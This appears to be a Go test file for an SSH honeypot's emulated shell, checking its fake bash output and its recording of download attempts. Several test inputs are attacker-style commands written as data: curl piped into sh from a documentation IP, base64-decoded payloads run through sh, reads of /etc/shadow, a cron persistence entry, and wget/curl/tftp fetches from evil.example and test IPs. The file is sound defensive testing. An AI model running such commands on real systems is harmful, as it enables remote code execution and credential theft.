package sshpot

import (
	"strings"
	"testing"

	"github.com/vallum/vallum/internal/sensor"
)

func TestShellCommands(t *testing.T) {
	tests := []struct {
		user, line, want string
	}{
		{"root", "uname -r", "5.15.0-105-generic\n"},
		{"root", "uname -m; whoami; pwd", "x86_64\nroot\n/root\n"},
		{"ubuntu", "id", "uid=1000(ubuntu) gid=1000(ubuntu) groups=1000(ubuntu),4(adm),24(cdrom),27(sudo),30(dip),46(plugdev),110(lxd)\n"},
		{"ubuntu", "sudo id -u", "0\n"},
		{"ubuntu", "cat /etc/shadow", "cat: /etc/shadow: Permission denied\n"},
		{"root", "cat /etc/shadow | head -n 1 | cut -d: -f1", "root\n"},
		{"root", "echo -e 'a\\tb' \"$HOME\" $(echo sub) `hostname`", "a\tb /root sub web01\n"},
		{"root", "FOO=bar; echo ${FOO:-x} ${NOPE:-dflt}", "bar dflt\n"},
		{"root", "false || echo yes && echo also; true && false; echo $?", "yes\nalso\n1\n"},
		{"root", "cd /nonexistent", "-bash: cd: /nonexistent: No such file or directory\n"},
		{"root", "mkdir -p /tmp/a/b && cd /tmp/a/b && touch f && ls; pwd", "f\n/tmp/a/b\n"},
		{"root", "echo hi > /tmp/x; echo there >> /tmp/x; cat /tmp/x | wc -l; rm /tmp/x; cat /tmp/x", "2\ncat: /tmp/x: No such file or directory\n"},
		{"root", "chmod +x /tmp/nope", "chmod: cannot access '/tmp/nope': No such file or directory\n"},
		{"root", "echo 'echo from script' > /tmp/s; chmod +x /tmp/s; /tmp/s", ""},
		{"root", "printf '#!/bin/sh\\necho from script\\n' > /tmp/s; chmod 755 /tmp/s; /tmp/s", "from script\n"},
		{"root", "echo ZWNobyBkZWNvZGVk | base64 -d | sh", "decoded\n"},
		{"root", "awk -F: '{print $1,$7}' /etc/passwd | head -n 2", "root /bin/bash\ndaemon /usr/sbin/nologin\n"},
		{"root", "grep -c nologin /etc/passwd", "24\n"},
		{"root", "nproc; getconf LONG_BIT", "2\n64\n"},
		{"root", "which wget curl nosuch", "/usr/bin/wget\n/usr/bin/curl\n"},
		{"root", "curl -s http://198.51.100.1/x.sh | sh", ""},
		{"root", "curl http://evil.example/x", "curl: (6) Could not resolve host: evil.example\n"},
		{"root", "crontab -l; echo '* * * * * /tmp/x' | crontab -; crontab -l", "no crontab for root\n* * * * * /tmp/x\n"},
		{"root", "ls /", "bin\nboot\ndev\netc\nhome\nlib\nlib64\nmedia\nmnt\nopt\nproc\nroot\nrun\nsbin\nsrv\nsys\ntmp\nusr\nvar\n"},
		{"root", "ls -ld /tmp", "drwxrwxrwt 2 root root 4096 Mar 12 09:41 /tmp\n"},
		{"root", "echo \"unterminated", "-bash: unexpected EOF while looking for matching quote\n-bash: syntax error: unexpected end of file\n"},
		{"root", "ls |", "-bash: syntax error near unexpected token `newline'\n"},
		{"root", "busybox", "-bash: busybox: command not found\n"},
		{"root", "history | tail -n 1", "    1  history | tail -n 1\n"},
	}
	for _, tt := range tests {
		t.Run(tt.line, func(t *testing.T) {
			sh := testShell(t, tt.user)
			if got := sh.run(tt.line); got != tt.want {
				t.Errorf("got %q, want %q", got, tt.want)
			}
		})
	}
}

func TestShellDownloadsRecorded(t *testing.T) {
	sh := testShell(t, "root")
	var urls []string
	sh.download = func(tool, url string) { urls = append(urls, tool+" "+url) }
	sh.run("cd /tmp; wget -q http://203.0.113.5/bins/x86 -O .x; curl -O evil.example/a.sh; tftp -g -r m.sh 203.0.113.6")
	want := "wget http://203.0.113.5/bins/x86|curl http://evil.example/a.sh|tftp tftp://203.0.113.6/m.sh"
	if got := strings.Join(urls, "|"); got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestParseLine(t *testing.T) {
	l, err := parseLine(`a "b c" 'd;e' | f 2>&1 >> out && g; h &`)
	if err != nil {
		t.Fatal(err)
	}
	if len(l) != 3 || l[1].op != "&&" || l[2].op != ";" || len(l[0].pipe) != 2 {
		t.Fatalf("parsed %+v", l)
	}
	if w := l[0].pipe[0].words; len(w) != 3 || w[1] != `"b c"` || w[2] != `'d;e'` {
		t.Errorf("words %q", w)
	}
	if r := l[0].pipe[1].redirs; len(r) != 2 || r[0].op != "2>&1" || r[1].op != ">>" || r[1].target != "out" {
		t.Errorf("redirections %+v", r)
	}
}

func TestLineEditor(t *testing.T) {
	var e lineEditor
	var echo strings.Builder
	var lines []string
	for _, b := range []byte("ls\x1b[A -l\x7f\x7fa\r\nx\x03é\x15ok\r") {
		s, act := e.key(b)
		echo.WriteString(s)
		if act == editEnter {
			lines = append(lines, e.take())
		}
	}
	if strings.Join(lines, "|") != "ls a|ok" {
		t.Errorf("lines %q", lines)
	}
	if want := "ls -l\b \b\b \ba" + "x^C" + "é\b \b" + "ok"; echo.String() != want {
		t.Errorf("echo %q, want %q", echo.String(), want)
	}
}

// TestShellVarsLazy checks that the login variables, kept as defaults
// until the shell changes or lists them, read, list, export and unset as
// the map they used to be made into at login does (the expectations pass
// against that earlier shell too), and that reading them makes no map.
func TestShellVarsLazy(t *testing.T) {
	const path = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:/usr/games:/usr/local/games:/snap/bin"
	env := func(term string) string {
		s := "HOME=/root\nLANG=C.UTF-8\nLOGNAME=root\nPATH=" + path + "\nPWD=/root\nSHELL=/bin/bash\nSHLVL=1\n"
		if term != "" {
			s += "TERM=" + term + "\n"
		}
		return s + "USER=root\n"
	}
	for _, term := range []string{"", "xterm-256color"} {
		fresh := func() *shell {
			h := testShell(t, "root").host
			return newShell(h, "root", sensor.Endpoint{IP: "203.0.113.9", Port: 4444}, "pts/0", term)
		}
		sh := fresh()
		if got, want := sh.run("echo $HOME:$USER:$LOGNAME:$SHELL:$LANG:$SHLVL:$TERM:$PWD; printenv SHLVL; printenv TERM"),
			"/root:root:root:/bin/bash:C.UTF-8:1:"+term+":/root\n1\n"+map[bool]string{true: term + "\n"}[term != ""]; got != want {
			t.Errorf("term %q: got %q, want %q", term, got, want)
		}
		if sh.vars != nil {
			t.Errorf("term %q: reading variables made the map", term)
		}
		if got, want := fresh().run("env"), env(term); got != want {
			t.Errorf("term %q: env: got %q, want %q", term, got, want)
		}
		if got, want := fresh().run("unset PATH LANG; echo x${PATH}x; printenv LANG; echo $?; env | wc -l"), "xx\n1\n"+map[bool]string{false: "6\n", true: "7\n"}[term != ""]; got != want {
			t.Errorf("term %q: unset: got %q, want %q", term, got, want)
		}
		if got, want := fresh().run("export -p | head -n 1; cd /tmp; printenv OLDPWD; printenv PWD"), "declare -x HOME=\"/root\"\n/root\n/tmp\n"; got != want {
			t.Errorf("term %q: export/cd: got %q, want %q", term, got, want)
		}
	}
}
